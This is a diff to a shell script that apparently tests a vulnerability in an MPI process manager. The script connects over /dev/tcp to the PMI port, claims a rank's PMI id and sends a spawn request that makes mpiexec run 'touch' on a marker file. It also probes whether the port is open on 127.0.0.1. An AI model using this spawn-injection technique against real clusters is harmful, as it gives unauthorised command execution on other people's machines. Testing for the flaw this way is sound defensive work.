@@ -5,6 +5,7 @@
 # the port also answers on 127.0.0.1, then connects, claims the rank's PMI id and asks
 # mpiexec to spawn "touch $ATTACK_MARK"; every reply goes to stdout.
 set -u
+trap '' PIPE
 cmd=$2
 port=$(printf '%s\n' "$cmd" | sed -n "s/.*'PMI_PORT=\([^']*\)'.*/\1/p")
 id=$(printf '%s\n' "$cmd" | sed -n "s/.*'PMI_ID=\([0-9]*\)'.*/\1/p")
@@ -13,9 +14,11 @@ if [ "$addr" != 127.0.0.1 ]; then
   if (exec 4<>"/dev/tcp/127.0.0.1/$num") 2>/dev/null; then echo "probe 127.0.0.1: open"; else echo "probe 127.0.0.1: closed"; fi
 fi
 exec 3<>"/dev/tcp/$addr/$num" || { echo "attack: cannot connect to $port"; exit 0; }
-printf 'cmd=initack pmiid=%s\n' "$id" >&3
-[ "${ATTACK_MAC:-}" ] && printf 'cmd=auth mac=%s\n' "$ATTACK_MAC" >&3
-printf 'cmd=init pmi_version=1 pmi_subversion=1\n' >&3
-printf 'mcmd=spawn\nnprocs=1\nexecname=touch\ntotspawns=1\nspawnssofar=1\nargcnt=1\narg1=%s\npreput_num=0\ninfo_num=0\nendcmd\n' "$ATTACK_MARK" >&3
+{
+  printf 'cmd=initack pmiid=%s\n' "$id"
+  [ "${ATTACK_MAC:-}" ] && printf 'cmd=auth mac=%s\n' "$ATTACK_MAC"
+  printf 'cmd=init pmi_version=1 pmi_subversion=1\n'
+  printf 'mcmd=spawn\nnprocs=1\nexecname=touch\ntotspawns=1\nspawnssofar=1\nargcnt=1\narg1=%s\npreput_num=0\ninfo_num=0\nendcmd\n' "$ATTACK_MARK"
+} 2>/dev/null >&3
 while IFS= read -r -t 5 line <&3; do echo "attack got: $line"; done
 exit 0
